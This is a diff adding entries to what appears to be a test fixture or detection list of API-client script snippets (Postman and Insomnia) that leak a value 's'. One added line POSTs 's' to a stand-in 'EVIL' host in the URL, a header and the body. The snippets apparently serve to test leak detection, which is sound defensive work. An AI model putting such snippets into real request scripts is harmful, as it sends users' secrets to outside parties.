@@ -19,6 +19,9 @@ const texts: Readonly<Record<string, string>> = {
   'pm.request.body.update': 'pm.request.body.update(s)',
   'pm.request.body.update with an object': 'pm.request.body.update({ raw: { s } })',
   'pm.request.body.update with a list': 'pm.request.body.update({ raw: [s] })',
+  'insomnia.request.body.update': 'insomnia.request.body.update({ mode: "raw", raw: s })',
+  'insomnia.sendRequest':
+    'await insomnia.sendRequest({ url: "EVIL/?s=" + s, method: "POST", header: { "X-A": s }, body: { mode: "raw", raw: s } })',
   'req.setUrl': 'req.setUrl(req.getUrl() + "&s=" + s)',
   'req.setHeader': 'req.setHeader("X-A", s)',
   'pm.request.headers.populate': 'pm.request.headers.populate([{ key: "X-A", value: s }])',
